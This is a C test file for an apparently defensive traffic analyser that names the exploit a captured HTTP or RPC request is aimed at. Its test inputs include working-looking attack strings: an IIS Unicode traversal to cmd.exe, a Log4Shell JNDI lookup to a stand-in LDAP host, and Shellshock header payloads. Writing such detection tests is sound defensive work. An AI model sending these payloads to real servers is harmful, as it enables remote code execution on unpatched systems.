#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <cmocka.h>

#include "stream/targets.h"
#include "talk.h"

/* Every entry of the knowledge that ships can be found by the bytes that its UUID has on the wire.
 */
static void every_interface_is_found(void **state)
{
	(void)state;
	struct error error;
	const struct targets *targets = targets_get(&error);
	assert_non_null(targets);
	static const unsigned place[] = { 3, 2, 1, 0, 5, 4, 7, 6, 8, 9, 10, 11, 12, 13, 14, 15 };
	for (unsigned i = 0; i < targets->interface_count; i++) {
		const struct target_interface *interface = &targets->interfaces[i];
		uint8_t uuid[UUID_SIZE];
		const char *text = interface->uuid;
		for (unsigned byte = 0; byte < UUID_SIZE; byte++) {
			unsigned value;
			text += *text == '-';
			assert_int_equal(sscanf(text, "%2x", &value), 1);
			uuid[place[byte]] = (uint8_t)value;
			text += 2;
		}
		assert_ptr_equal(targets_interface(targets, uuid), interface);
		for (unsigned j = 0; j < interface->operation_count; j++) {
			const struct target_operation *operation = &interface->operations[j];
			assert_ptr_equal(targets_operation(interface, operation->opnum), operation);
			assert_non_null(operation->source);
			if (operation->vulnerability)
				assert_true(strncmp(operation->vulnerability, "MS", 2) == 0 ||
					    strstr(operation->vulnerability, ", CVE-"));
		}
	}
	assert_non_null(targets_mark(targets, "mixed-transaction"));
	assert_non_null(targets_mark(targets, "reserved-session-setup"));
	assert_null(targets_mark(targets, "no such mark"));
}

static void what_is_not_known_is_not_named(void **state)
{
	(void)state;
	static const uint8_t nobody[UUID_SIZE];
	assert_null(targets_interface(targets_get(NULL), nobody));
	assert_null(targets_operation(NULL, 1));
	assert_null(targets_interface(NULL, nobody));
	assert_null(targets_mark(NULL, "mixed-transaction"));
}

/* --- requests of HTTP --- */

static void put_long(struct buffer *request, char letter, unsigned count)
{
	for (unsigned i = 0; i < count; i++)
		assert_int_equal(buffer_append(request, &letter, 1), 0);
}

/* The shortest request that a row means; `short_of` bytes are left out of what must be long. */
static const char *request_of(const struct target_request *row, unsigned short_of,
			      struct buffer *request)
{
	buffer_init(request, 1 << 16);
	buffer_printf(request, "%s %s", row->method ? row->method : "GET",
		      row->begins ? row->begins : "/x");
	for (unsigned i = 0; i < row->contains_count; i++)
		if (!row->ends)
			buffer_printf(request, "%s", row->contains[i]);
	put_long(request, 'a', row->target_over ? row->target_over - short_of : 0);
	buffer_printf(request, "%s", row->ends ? row->ends : "");
	if (row->query_over || row->ends)
		buffer_printf(request, "?");
	for (unsigned i = 0; i < row->contains_count; i++)
		if (row->ends)
			buffer_printf(request, "%s", row->contains[i]);
	put_long(request, 'N', row->query_over ? row->query_over - short_of : 0);
	buffer_printf(request, " HTTP/1.1\r\nHost: h\r\n");
	if (row->field) {
		buffer_printf(request, "%s: %s", strcmp(row->field, "*") ? row->field : "X-Any",
			      row->value_begins ? row->value_begins : "");
		for (unsigned i = 0; i < row->value_count; i++)
			buffer_printf(request, "%s", row->value[i]);
		put_long(request, 'v', row->value_over);
		buffer_printf(request, "\r\n");
	}
	assert_int_equal(buffer_append(request, "\r\n", 3), 0);
	return (const char *)buffer_bytes(request).data;
}

/* The vulnerability that a request is told to be aimed at, "" for none. */
static void expect_target(const char *request, const char *vulnerability)
{
	struct talk *talk = talk_new(6, 80);

	talk_say(talk, STREAM_CLIENT, request);
	talk_describe(talk);
	assert_string_equal(talk->description.target ? talk->description.target : "",
			    vulnerability);
	talk_free(talk);
}

static void every_request_of_the_knowledge_is_named(void **state)
{
	(void)state;
	const struct targets *targets = targets_get(NULL);

	assert_true(targets->http_count > 40);
	for (unsigned i = 0; i < targets->http_count; i++) {
		const struct target_request *row = &targets->http[i];
		struct buffer request;
		expect_target(request_of(row, 0, &request), row->vulnerability);
		buffer_fini(&request);
		if (!row->query_over && !row->target_over)
			continue;
		/* "?" and the path are a few bytes of their own */
		expect_target(request_of(row, row->target_over ? 16 : 1, &request), "");
		buffer_fini(&request);
	}
}

static void requests_are_named_however_they_are_written(void **state)
{
	(void)state;
	expect_target("GET /scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir HTTP/1.0\r\n\r\n",
		      "MS00-078 IIS, CVE-2000-0884");
	expect_target("GET /scripts/..%C0%AF../winnt HTTP/1.0\r\n\r\n",
		      "MS00-078 IIS, CVE-2000-0884");
	expect_target("GET /%24%7bJNDI:ldap://192.0.2.1/a} HTTP/1.0\r\n\r\n",
		      "Apache Log4j 2, CVE-2021-44228");
	expect_target("GET /cgi-bin/x HTTP/1.0\r\nuser-AGENT: () { :;}; echo\r\n\r\n",
		      "GNU Bash, CVE-2014-6271");
	expect_target("GET /a HTTP/1.0\r\n\r\nGET /cgi-bin/x HTTP/1.0\r\nCookie: () { :;}; "
		      "echo\r\n\r\n",
		      "GNU Bash, CVE-2014-6271");
}

static void ordinary_requests_are_not_named(void **state)
{
	(void)state;
	static const char *const requests[] = {
		"GET / HTTP/1.1\r\nHost: h\r\n\r\n",
		"GET /find.ida?CiRestriction=word HTTP/1.1\r\nHost: h\r\n\r\n",
		"GET /shell?lines=3 HTTP/1.1\r\nHost: h\r\n\r\n",
		"GET /a.js HTTP/1.1\r\nHost: h\r\nReferer: http://h/?x=function () {}\r\n\r\n",
		("PROPFIND /dav/ HTTP/1.1\r\nHost: h\r\nIf: <http://h/dav/a> "
		 "(<opaquelocktoken:1>)\r\n\r\n"),
		"GET /v HTTP/1.1\r\nHost: h\r\nRange: bytes=0-1023\r\n\r\n",
		"POST /setup.cgi HTTP/1.1\r\nHost: h\r\nContent-Length: 0\r\n\r\n",
	};
	for (size_t i = 0; i < sizeof requests / sizeof *requests; i++)
		expect_target(requests[i], "");
}

static void mistakes_are_said(void **state)
{
	(void)state;
	struct error error;
	struct targets *targets;
	assert_int_equal(targets_load_bytes(bytes_of("interfaces: 3\nmarks: []\n"), "t.yaml",
					    &targets, &error),
			 ERROR_INPUT);
	assert_null(targets);
	assert_string_equal(error.where, "t.yaml");
	assert_int_equal(
		targets_load_bytes(bytes_of("interfaces:\n  - uuid: 00000000-0000-0000-0000-"
					    "000000000000\n    name: x\nmarks: []\n"),
				   "t.yaml", &targets, &error),
		0);
	assert_int_equal(targets->interface_count, 1);
	targets_free(targets);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(every_interface_is_found),
		cmocka_unit_test(what_is_not_known_is_not_named),
		cmocka_unit_test(every_request_of_the_knowledge_is_named),
		cmocka_unit_test(requests_are_named_however_they_are_written),
		cmocka_unit_test(ordinary_requests_are_not_named),
		cmocka_unit_test(mistakes_are_said)
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
